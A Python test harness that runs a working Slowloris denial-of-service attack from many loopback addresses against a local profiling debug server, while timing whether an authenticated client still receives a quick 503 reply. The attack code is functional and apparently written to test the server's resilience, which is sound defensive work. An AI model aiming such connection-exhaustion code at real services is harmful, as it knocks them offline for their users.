#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Slowloris against `cprof-dump --http`, and a client with the token.

  slowloris.py PORT SECONDS TOKEN_FILE

For SECONDS, connections from 16 loopback addresses (127.0.0.2 to
127.0.0.17, 20 each) and from ::1 (40, each from a port of its own) send
the start of a request and then a header line every 2 s, never ending it;
each one closed is opened again at once.  Meanwhile, once a second, a
client on 127.0.0.1 asks /debug/pprof/profile?seconds=1 with the token
(TOKEN_FILE's line as it is) and waits 3 s at most for the whole answer.
The server must listen on [::]:PORT (IPv4 and IPv6).  Prints
"ASKED ANSWERED SLOWEST_MS CONNECTS": the client's requests, those answered
within 3 s, the slowest answer's time, the connections opened by the
attack.
"""
import selectors
import socket
import sys
import threading
import time

PORT = int(sys.argv[1])
SECONDS = float(sys.argv[2])
TOKEN = open(sys.argv[3]).read().rstrip('\n')
SOURCES = [('127.0.0.%d' % i, socket.AF_INET, 20) for i in range(2, 18)]
SOURCES.append(('::1', socket.AF_INET6, 40))
START = b'GET /debug/pprof/ HTTP/1.1\r\nHost: localhost\r\n'


def attack(stop, stats):
    sel = selectors.DefaultSelector()
    socks = {}

    def open_one(src, family):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((src, 0))
        dst = '127.0.0.1' if family == socket.AF_INET else '::1'
        try:
            s.connect((dst, PORT))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            return
        stats['connects'] += 1
        socks[s] = [src, family, 0.0, False]
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def drop(s):
        src, family = socks.pop(s)[:2]
        sel.unregister(s)
        s.close()
        if not stop.is_set():
            open_one(src, family)

    for src, family, n in SOURCES:
        for _ in range(n):
            open_one(src, family)
    while not stop.is_set():
        now = time.monotonic()
        for key, ev in sel.select(0.2):
            s = key.fileobj
            st = socks.get(s)
            if st is None:
                continue
            if ev & selectors.EVENT_READ:
                try:
                    if s.recv(4096):
                        continue
                except OSError:
                    pass
                drop(s)
                continue
            if ev & selectors.EVENT_WRITE and not st[3]:
                try:
                    s.send(START)
                except OSError:
                    drop(s)
                    continue
                st[2], st[3] = now, True
                sel.modify(s, selectors.EVENT_READ)
        for s, st in list(socks.items()):
            if st[3] and now - st[2] >= 2:
                try:
                    s.send(b'X-Slow: 1\r\n')
                    st[2] = now
                except OSError:
                    drop(s)
    for s in list(socks):
        s.close()


def ask():
    req = ('GET /debug/pprof/profile?seconds=1 HTTP/1.1\r\nHost: localhost\r\n'
           'Authorization: Bearer %s\r\n\r\n' % TOKEN).encode()
    t0 = time.monotonic()
    try:
        s = socket.create_connection(('127.0.0.1', PORT), timeout=3)
        s.settimeout(max(0.01, 3 - (time.monotonic() - t0)))
        s.sendall(req)
        got = b''
        while True:
            s.settimeout(max(0.01, 3 - (time.monotonic() - t0)))
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
        s.close()
    except OSError:
        return None
    if not got.startswith(b'HTTP/1.1 503'):
        return None
    return time.monotonic() - t0


def main():
    stop = threading.Event()
    stats = {'connects': 0}
    t = threading.Thread(target=attack, args=(stop, stats))
    t.start()
    time.sleep(1)		# the attack holds what it can first
    asked = answered = 0
    slowest = 0.0
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        t0 = time.monotonic()
        took = ask()
        asked += 1
        if took is not None and took <= 3:
            answered += 1
            slowest = max(slowest, took)
        else:
            slowest = max(slowest, time.monotonic() - t0)
        time.sleep(max(0, 1 - (time.monotonic() - t0)))
    stop.set()
    t.join()
    print(asked, answered, int(slowest * 1000), stats['connects'])


main()
